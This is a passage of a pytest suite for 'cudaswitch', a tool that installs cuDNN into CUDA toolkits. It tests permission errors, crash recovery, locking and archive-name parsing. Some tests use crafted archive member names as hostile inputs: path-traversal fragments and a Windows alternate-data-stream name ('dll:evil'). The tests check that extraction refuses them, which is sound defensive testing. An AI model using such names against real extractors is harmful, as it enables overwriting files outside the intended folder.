    import cudaswitch.cudnn.archive  # noqa: F401
    import cudaswitch.cudnn.install  # noqa: F401

    base = Path(tempfile.mkdtemp(prefix="cs-eacces-"))
    fs = base / "fs"
    try:
        base.chmod(0o755)
        cudatrees.cuda_10_2(fs / "usr/local/cuda-10.2")
        archive = base / archives["linux-9.1-cuda11"].name
        shutil.copy(archives["linux-9.1-cuda11"], archive)
        archive.chmod(0o644)
        for dirpath, _d, files in os.walk(fs):
            os.chmod(dirpath, 0o555)
        env = dict(clean_env, CUDASWITCH_FS_ROOT=str(fs), CUDASWITCH_OS="linux", HOME=str(base))
        before = snap(fs)
        args = ["install-cudnn", str(archive), "--cuda", "10.2", "--force"]
        if os.geteuid() == 0:
            ctx = multiprocessing.get_context("fork")
            parent, child = ctx.Pipe()
            proc = ctx.Process(target=_install_as_nobody, args=(args, env, child))
            proc.start()
            code, output = parent.recv()
            proc.join(60)
        else:
            r = run_cli(args, env)
            code, output = r.returncode, r.stdout + r.stderr
        assert code != 0 and "Traceback" not in output, output
        errors = [line for line in output.splitlines() if line.startswith("cudaswitch: error: ")]
        assert len(errors) == 1, output
        for needle in ("permission denied", "sudo", "--into-env", "nothing was changed"):
            assert needle in errors[0], errors[0]
        assert snap(fs) == before
    finally:
        for dirpath, _d, _f in os.walk(base):
            os.chmod(dirpath, 0o755)
        shutil.rmtree(base, ignore_errors=True)


def test_read_only_mount_cli(archives, clean_env, tmp_path):
    """A toolkit on a read-only file system (root included): refused up front, nothing staged."""
    import subprocess

    if os.geteuid() != 0:
        pytest.skip("mounting needs root")
    mnt = tmp_path / "ro"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mnt)]).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        cudatrees.windows_toolkit(mnt, "12.4")
        subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
        env = dict(clean_env, CUDASWITCH_FS_ROOT=str(mnt), CUDASWITCH_OS="windows")
        before = snap(mnt)
        refused(run_cli(["install-cudnn", str(archives["win-9.10-archive"]), "--cuda", "12.4"], env),
                "read-only file system", "--into-env", "nothing was changed")
        assert snap(mnt) == before
    finally:
        subprocess.run(["umount", str(mnt)])


# ---- the real cuDNN --------------------------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def real_tarball():
    return ca.real_linux_tarball()


@pytest.mark.slow
def test_real_cudnn_installs_loads_and_uninstalls(real_tarball, linux_fs):
    fs, env = linux_fs
    root = fs / "usr/local/cuda-12.9"
    before = snap(fs)
    proc = ok(run_cli(["install-cudnn", str(real_tarball), "--json"], env, timeout=900))
    res = json.loads(proc.stdout)
    assert res["installed"] and res["archive"]["version"] == "9.10.2" and res["archive"]["full_version"] == "9.10.2.21"
    assert res["target"]["root"] == "/usr/local/cuda-12.9"
    # the header says 9.10.2 and the real libcudnn.so.9, loaded from lib64 with ctypes, says 91002
    assert res["verify"] == {"header": "9.10.2", "expected": "9.10.2", "library": 91002, "library_error": None,
                             "checked": "header and library", "ok": True}
    lib64 = root / "lib64"
    assert os.readlink(lib64 / "libcudnn.so") == "libcudnn.so.9"
    assert os.readlink(lib64 / "libcudnn.so.9") == "libcudnn.so.9.10.2"
    import nvidia_wheels as nw

    wheel_lib = nw.extracted(nw.CUDNN_CU12) / "nvidia" / "cudnn" / "lib"
    for so in ("libcudnn.so.9", "libcudnn_graph.so.9", "libcudnn_ops.so.9"):
        assert ca.snapshot(wheel_lib)[so][1].split()[0] == \
            ca.snapshot(lib64.resolve())[so.replace(".so.9", ".so.9.10.2")][1].split()[0]
    listed = json.loads(ok(run_cli(["list", "--json"], env)).stdout)
    assert next(t for t in listed["toolkits"] if t["version"] == "12.9.1")["cudnn"] == "9.10.2"
    ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env))
    assert snap(fs) == before


@pytest.mark.slow
def test_real_kill_mid_stream_of_the_real_tarball(real_tarball, linux_fs):
    """A real SIGKILL from outside, once two files are staged; the next command rolls it back."""
    import signal
    import subprocess
    import sys
    import time

    fs, env = linux_fs
    root = fs / "usr/local/cuda-12.9"
    before = snap(fs)
    env = dict(env, PYTHONPATH=str(REPO))
    proc = subprocess.Popen([sys.executable, seams.ENTRY, "install-cudnn", str(real_tarball), "-q"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 600
    staged = []
    while time.time() < deadline and proc.poll() is None:
        staged = list((root / ".cudaswitch" / "cudnn").glob("*/stage/*/*"))
        if len(staged) >= 2:
            break
        time.sleep(0.05)
    assert proc.poll() is None, "the install ended before it could be killed"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert len(staged) >= 2
    mid = snap(fs)
    assert any(".cudaswitch" in p for p in mid)  # the journal is there ...
    assert {p: v for p, v in mid.items() if ".cudaswitch" not in p} == before  # ... and nothing else changed
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env)).stdout
    assert "rolled back an interrupted cuDNN install" in out
    assert snap(fs) == before


# ---- names, progress, Ctrl-C ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,expected", [
    # archive names NVIDIA and PyTorch CI use (sources.csv S46-S64, S115-S117)
    ("cudnn-11.3-windows-x64-v8.2.1.32.zip", ("windows", "8.2.1.32", 11, 3)),
    ("cudnn-10.2-windows10-x64-v7.6.5.32.zip", ("windows", "7.6.5.32", 10, 2)),
    ("cudnn-11.1-windows-x64-v8.0.5.39.zip", ("windows", "8.0.5.39", 11, 1)),
    ("cudnn-11.3-linux-x64-v8.2.1.32.tgz", ("linux", "8.2.1.32", 11, 3)),
    ("cudnn-windows-x86_64-8.3.2.44_cuda11.5-archive.zip", ("windows", "8.3.2.44", 11, 5)),
    ("cudnn-windows-x86_64-8.5.0.96_cuda11-archive.zip", ("windows", "8.5.0.96", 11, None)),
    ("cudnn-linux-x86_64-8.3.2.44_cuda10.2-archive.tar.xz", ("linux", "8.3.2.44", 10, 2)),
    ("cudnn-linux-x86_64-8.9.2.26_cuda11-archive.tar.xz", ("linux", "8.9.2.26", 11, None)),
    ("cudnn-windows-x86_64-9.19.0.56_cuda13-archive.zip", ("windows", "9.19.0.56", 13, None)),
    ("cudnn-linux-x86_64-9.20.0.48_cuda13-archive.tar.xz", ("linux", "9.20.0.48", 13, None)),
    ("cudnn-linux-sbsa-9.10.2.21_cuda12-archive", ("linux", "9.10.2.21", 12, None)),
    ("cudnn.zip", None),
    ("cudnn_9.7.0_windows.exe", None),
])
def test_archive_names(name, expected):
    from cudaswitch.cudnn.archive import name_info

    info = name_info(name)
    if expected is None:
        assert info is None
    else:
        assert (info["os"], info["version"], info["cuda_major"], info["cuda_minor"]) == expected


def test_colon_in_member_name_is_refused(tmp_path, win_fs):
    fs, env = win_fs
    archive = _zip_with(tmp_path, [(f"{WTOP}/bin/cudnn64_9.dll:evil", "file", b"MZ")])
    before = snap(fs)
    refused(run_cli(["install-cudnn", str(archive), "--cuda", "12.4"], env), "character Windows treats specially")
    assert snap(fs) == before


def test_progress_bar_only_on_a_terminal_and_not_with_quiet(tmp_path, win_fs):
    import pty
    import subprocess
    import sys

    fs, env = win_fs
    big = ca.write_zip(tmp_path / f"{WTOP}.zip", [
        (p, k, os.urandom(1 << 20) if p.endswith(".dll") else d)
        for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])
    assert big.stat().st_size > (4 << 20)
    env = dict(env, PYTHONPATH=str(REPO), COLUMNS="100")

    def on_tty(*extra):
        master, slave = pty.openpty()
        proc = subprocess.run([sys.executable, seams.ENTRY, "install-cudnn", str(big), "--cuda", "12.4",
                               "--dry-run", *extra], env=env, stdout=subprocess.PIPE, stderr=slave, timeout=120)
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)
        os.close(master)
        return proc, b"".join(chunks).decode("utf-8", "replace")

    proc, tty = on_tty()
    assert proc.returncode == 0 and "Reading" in tty and "100%" in tty
    proc, tty = on_tty("--quiet")
    assert proc.returncode == 0 and "Reading" not in tty
    piped = ok(run_cli(["install-cudnn", str(big), "--cuda", "12.4", "--dry-run"], env))
    assert "Reading" not in piped.stderr and "%" not in piped.stderr


def test_uninstall_without_selector_finds_the_interrupted_toolkit(archives, linux_fs):
    fs, env = linux_fs
    before = snap(fs)
    proc = run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], dict(env, CUDASWITCH_FAULT="kill@commit:4"))
    assert proc.returncode == -9
    out = ok(run_cli(["uninstall-cudnn"], env)).stdout
    assert "completed an interrupted cuDNN install" in out and "Removed cuDNN 9.10.2.21" in out
    assert snap(fs) == before


@pytest.mark.slow
def test_ctrl_c_while_unpacking_the_real_tarball_changes_nothing(real_tarball, linux_fs):
    import signal
    import subprocess
    import sys
    import time

    fs, env = linux_fs
    root = fs / "usr/local/cuda-12.9"
    before = snap(fs)
    env = dict(env, PYTHONPATH=str(REPO))
    proc = subprocess.Popen([sys.executable, seams.ENTRY, "install-cudnn", str(real_tarball)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 600
    while time.time() < deadline and proc.poll() is None:
        if len(list((root / ".cudaswitch" / "cudnn").glob("*/stage/*/*"))) >= 3:
            break
        time.sleep(0.05)
    assert proc.poll() is None
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert err.strip() == "cudaswitch: error: interrupted"
    assert snap(fs) == before  # staged data and the journal are gone too


def test_a_second_cudaswitch_on_the_same_toolkit_is_refused(archives, linux_fs):
    import fcntl

    fs, env = linux_fs
    root = fs / "usr/local/cuda-12.9"
    before = snap(fs)
    fd = os.open(root, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a running install-cudnn holds it
        refused(run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], env), "another cudaswitch",
                "nothing was changed")
        refused(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env), "another cudaswitch")
    finally:
        os.close(fd)
    assert snap(fs) == before


def test_dry_run_after_a_kill_reports_the_pending_journal_and_writes_nothing(archives, linux_fs):
    fs, env = linux_fs
    proc = run_cli(["install-cudnn", str(archives["linux-9.10-archive"])], dict(env, CUDASWITCH_FAULT="kill@commit:3"))
    assert proc.returncode == -9
    mid = snap(fs)
    out = ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--dry-run"], env)).stdout
    assert "note: an interrupted cuDNN install is pending" in out and "will complete it" in out
    assert snap(fs) == mid


# ---- member paths: property ------------------------------------------------------------------------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_PARTS = st.sampled_from(["..", ".", "", "cuda", "lib", "x64", "C:", "c:", "\\", "/", "a..b", "...", "bin",
                          "D:\\", "~", "lib64", "\\\\?\\", "..\\", "%2e%2e"])


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(_PARTS, st.text(min_size=1, max_size=4)), min_size=1, max_size=8),
       st.sampled_from(["/", "\\"]))
def test_member_paths_never_leave_the_archive_folder(parts, sep):
    """Whatever a member is called, it is either refused or lands strictly inside the folder it is unpacked to,
    read with POSIX or with Windows path rules."""
    import ntpath
    import posixpath

    from cudaswitch.cudnn.archive import ArchiveError, check_member_path

    raw = sep.join(parts)
    try:
        p = check_member_path(raw)
    except ArchiveError:
        return
    for mod, base in ((posixpath, "/base"), (ntpath, "C:\\base")):
        joined = mod.normpath(mod.join(base, p))
        assert joined.startswith(base + mod.sep), (raw, p, joined)
        assert not mod.isabs(p) and ":" not in p


def test_sigkill_mid_commit_on_a_windows_toolkit_then_recovery(archives, win_fs):
    fs, env = win_fs
    ok(run_cli(["install-cudnn", str(archives["win-8.2-cuda-wrapper"])], env))
    with_82 = snap(fs)
    proc = run_cli(["install-cudnn", str(archives["win-8.3-archive"]), "--yes"],
                   dict(env, CUDASWITCH_FAULT="kill@commit-mid:4"))
    assert proc.returncode == -9
    assert snap(fs) != with_82  # half-way: some DLLs are 8.3, one is in the backup folder only
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "11.3"], env)).stdout
    assert "completed an interrupted cuDNN install" in out and "cuDNN 8.2.1 is back" in out
    assert snap(fs) == with_82


def test_permission_denied_half_way_through_uninstall_is_finished_by_the_next_one(archives, linux_fs):
    fs, env = linux_fs
    _with_old_cudnn(fs, archives)
    before = snap(fs)
    ok(run_cli(["install-cudnn", str(archives["linux-9.10-archive"]), "--yes"], env))
    refused(run_cli(["uninstall-cudnn", "--cuda", "12.9"], dict(env, CUDASWITCH_FAULT="eacces@uninstall:5")),
            "stopped half-way", "run uninstall-cudnn again")
    out = ok(run_cli(["uninstall-cudnn", "--cuda", "12.9"], env)).stdout
    assert "completed an interrupted cuDNN uninstall" in out
    assert snap(fs) == before
